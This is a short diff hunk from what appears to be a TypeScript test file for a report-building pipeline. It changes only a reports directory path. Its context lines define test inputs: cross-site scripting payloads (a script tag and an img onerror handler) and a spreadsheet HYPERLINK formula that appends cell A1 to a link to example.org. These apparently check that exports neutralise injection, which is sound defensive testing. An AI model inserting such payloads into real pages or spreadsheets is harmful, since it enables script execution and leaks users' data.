@@ -6,7 +6,7 @@ import { buildMarts } from "../../pipelines/models/build-marts.ts";
 import { attach, selectRows, withConnection } from "../../pipelines/warehouse/connection.ts";
 import { csvOf, newWorld, send } from "./given.ts";
 
-const REPORTS = fileURLToPath(new URL("../../reports/", import.meta.url));
+const REPORTS = fileURLToPath(new URL("../../reports", import.meta.url));
 
 const MARKUP = `<script>alert(1)</script><img src=x onerror="alert(2)">{@html note} {#if true}$\{note}`;
 const FORMULA = `=HYPERLINK("http://example.org/?"&A1;"bấm vào đây")`;
